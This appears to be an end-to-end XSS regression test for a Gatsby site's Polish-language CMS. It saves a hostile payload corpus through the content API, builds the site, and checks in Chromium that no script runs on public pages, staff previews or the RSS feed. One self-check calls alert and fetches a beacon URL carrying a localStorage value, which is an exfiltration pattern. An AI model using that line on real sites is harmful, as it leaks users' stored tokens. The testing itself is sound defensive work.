import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import type { BrowserContext, Page } from 'playwright-core'
import { EDIT_LIMITS } from '../src/domain/content/editing'
import { routes } from '../src/domain/routes'
import { ALERT_VECTORS, MARKDOWN_VECTORS, XSS_BEACON } from '../__tests__/fixtures/xssCorpus'
import { setUpBrowserSite } from './support/browserSite'
import { keepBuiltSite } from './support/site'
import { addStaff, logInWithForm } from './support/staffSession'
import { expectSilent, provoke, watch } from './support/xssWatch'

// Issue #17, "Done when": the hostile corpus saved through the real content API as an editor,
// built with the real `gatsby build`, opened in Chromium as a logged-in admin — the public pages,
// the staff previews of the same text and the RSS feed — and no script of the corpus runs.
jest.setTimeout(900_000)

const ROOT = path.join(__dirname, '..')
const FILES = [
  'content/pages/najczestsze-pytania.md',
  'content/pages/zatrudnienie.md',
  'content/site.yaml',
]
const originals = new Map(FILES.map((file) => [file, readFileSync(path.join(ROOT, file))]))
const built = keepBuiltSite()
beforeAll(() => built.keep())
const harness = setUpBrowserSite({ PUBLISH: 'on' })
const EDITOR = { email: 'redaktor-xss@example.com', password: 'haslo-redaktora-123' }
const ADMIN = { email: 'admin-xss@example.com', password: 'haslo-dyrektora-123' }
const CANARY = `kanarek-${Date.now()}`
let newsId = ''

const markdownCorpus = MARKDOWN_VECTORS.map((v) => `### ${v.name}\n\n${v.payload}\n`).join('\n')
// The banner holds at most EDIT_LIMITS.alertContent characters: as many vectors as fit.
const alertCorpus = ALERT_VECTORS.map((v) => v.payload).reduce(
  (text, payload) =>
    text.length + payload.length < EDIT_LIMITS.alertContent ? text + payload : text,
  '',
)

async function api(method: string, url: string, token: string, body?: object) {
  const response = await fetch(harness.site.url + url, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: body && JSON.stringify(body),
  })
  return { status: response.status, json: await response.json() }
}

beforeAll(async () => {
  for (const [who, role] of [
    [EDITOR, 'editor'],
    [ADMIN, 'admin'],
  ] as const) {
    await addStaff(harness.site, { ...who, name: role, role })
  }
  const login = await api('POST', '/api/auth/login', '', EDITOR)
  const token = login.json.token as string

  // The FAQ first: its 66 checks run before the first save's build takes the CPU.
  const faq = await api('GET', '/api/gazda/content/faq', token)
  const items = MARKDOWN_VECTORS.map((v) => ({ question: `Wektor: ${v.name}?`, answer: v.payload }))
  const savedFaq = await api('PUT', '/api/gazda/content/faq', token, {
    title: faq.json.title,
    items: [...faq.json.items.slice(0, EDIT_LIMITS.faqItems - items.length), ...items],
    version: faq.json.version,
  })
  expect(savedFaq.status).toBe(200)
  // The editor is told what the site leaves out; nothing was refused.
  expect(Object.keys(savedFaq.json.removed).length).toBeGreaterThan(40)
  const news = await api('POST', '/api/gazda/content/news', token, {
    title: `Wiadomość z wrogą treścią ${Date.now()}`,
    date: new Date().toISOString().slice(0, 10),
    body: markdownCorpus,
  })
  expect(news.status).toBe(201)
  newsId = news.json.id
  const page = await api('GET', '/api/gazda/content/pages/zatrudnienie', token)
  expect(
    (
      await api('PUT', '/api/gazda/content/pages/zatrudnienie', token, {
        title: page.json.title,
        body: markdownCorpus,
        version: page.json.version,
      })
    ).status,
  ).toBe(200)
  const alert = await api('GET', '/api/gazda/content/alert', token)
  expect(
    (
      await api('PUT', '/api/gazda/content/alert', token, {
        kind: 'alert',
        content: alertCorpus,
        link: null,
        start: null,
        end: null,
        version: alert.json.version,
      })
    ).status,
  ).toBe(200)

  // The real rebuild (publisher, `gatsby build`) takes in every save.
  const deadline = Date.now() + 600_000
  for (;;) {
    const status = (await api('GET', '/api/gazda/publish', token)).json
    if (status.state === 'failed') throw new Error(`build failed: ${status.error}`)
    if (status.state === 'idle' && status.changesWaiting === 0) break
    if (Date.now() > deadline) throw new Error('the build did not finish in 10 minutes')
    await new Promise((resolve) => setTimeout(resolve, 2000))
  }
})

// content/ and public/ end as they began: the files put back, and the site as built from them.
afterAll(() => {
  for (const [file, text] of originals) writeFileSync(path.join(ROOT, file), text)
  const newsFile = path.join(ROOT, 'content/news', `${newsId}.md`)
  if (newsId && existsSync(newsFile)) rmSync(newsFile)
  built.putBack()
}, 600_000)

type StorageState = Awaited<ReturnType<BrowserContext['storageState']>>
let adminState: StorageState | undefined

/** A page of a context where the admin is logged in (the staff app's token in localStorage). */
async function adminPage(): Promise<Page> {
  if (!adminState) {
    // Logged in once, through the form: the login limit would refuse one login per test.
    const page = await harness.browser.newPage()
    await page.goto(`${harness.site.url}/gazda/`)
    await logInWithForm(page, ADMIN)
    adminState = await page.context().storageState()
    await page.context().close()
  }
  const context = await harness.browser.newContext({ storageState: adminState })
  return context.newPage()
}

describe('the hostile corpus, built and opened by a logged-in admin', () => {
  const slug = () => newsId.replace(/^\d{4}-\d{2}-\d{2}-/, '')

  it.each([
    ['the news item', () => routes.newsItem(slug()), 'main'],
    ['the content page', () => '/pages/zatrudnienie/', 'main'],
    ['the FAQ', () => '/pages/najczestsze-pytania/', 'main'],
    ['the alert banner on the home page', () => '/', 'section[data-kind]'],
    [
      'the staff preview of the news item',
      () => `/gazda/new/${newsId}/`,
      'section[aria-labelledby="editor-preview"]',
    ],
    [
      'the staff preview of the page',
      () => '/gazda/page/1/',
      'section[aria-labelledby="editor-preview"]',
    ],
    [
      'the staff preview of the FAQ',
      () => '/gazda/faq/',
      'section[aria-labelledby="editor-preview"]',
    ],
    [
      'the staff preview of the alert',
      () => '/gazda/alert/',
      'section[aria-labelledby="editor-preview"]',
    ],
  ])('runs nothing on %s', async (name, route, scope) => {
    const page = await adminPage()
    const ran = await watch(page, CANARY)
    const reportsBefore = harness.site.app.cspReports.count
    // A staff preview is the server's HTML of the text (POST /api/gazda/content/preview): provoke
    // it once it is shown, not the empty frame before.
    const previewed = name.startsWith('the staff preview')
      ? page.waitForResponse((response) => response.url().endsWith('/api/gazda/content/preview'))
      : null
    await page.goto(harness.site.url + route())
    await page.waitForSelector('html[data-hydrated="true"]', { state: 'attached' })
    if (previewed) {
      expect((await previewed).status()).toBe(200)
      // React shows the answer in the frame after it arrives.
      await page.evaluate(
        () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
      )
    }
    await page.locator(scope).first().waitFor({ state: 'attached' })
    await provoke(page, scope)
    await expectSilent(page, ran, harness.site.app.cspReports, reportsBefore)
    await page.context().close()
  })

  it('runs nothing from the RSS feed, in the browser or in a reader that shows descriptions as HTML', async () => {
    const page = await adminPage()
    const ran = await watch(page, CANARY)
    const reportsBefore = harness.site.app.cspReports.count
    const feed = await page.goto(`${harness.site.url}/wiadomosci/rss.xml`)
    const xml = await feed!.text()
    expect(xml).toContain(slug())
    // A feed reader: each description's text put into a page as HTML.
    await page.goto(`${harness.site.url}/`)
    await page.evaluate((text) => {
      const doc = new DOMParser().parseFromString(text, 'application/xml')
      const reader = document.createElement('div')
      reader.id = 'czytnik'
      reader.innerHTML = [...doc.querySelectorAll('item > description')]
        .map((d) => d.textContent)
        .join('<hr>')
      document.body.append(reader)
    }, xml)
    await provoke(page, '#czytnik')
    await expectSilent(page, ran, harness.site.app.cspReports, reportsBefore)
    await page.context().close()
  })

  // The watch can fail: code that does run in the page is seen by each hook. Run through the
  // driver, as the page's CSP (script-src-attr 'none', and later no 'unsafe-inline') would stop
  // an injected handler before any hook could see it.
  it('sees a payload that does run', async () => {
    const page = await adminPage()
    const ran = await watch(page, CANARY)
    await page.goto(`${harness.site.url}/`)
    await page.evaluate((beacon) => {
      alert(1)
      void fetch(`${beacon}?t=${localStorage.getItem('canary')}`)
    }, XSS_BEACON)
    await page.waitForTimeout(1000)
    expect(ran).toEqual(
      expect.arrayContaining([
        'dialog: 1',
        expect.stringMatching(new RegExp(`^request: .*${XSS_BEACON}\\?t=${CANARY}`)),
      ]),
    )
    expect(
      await page.evaluate(() => (window as unknown as { foreignReads: string[] }).foreignReads),
    ).toEqual(['canary'])
    await page.context().close()
  })
})
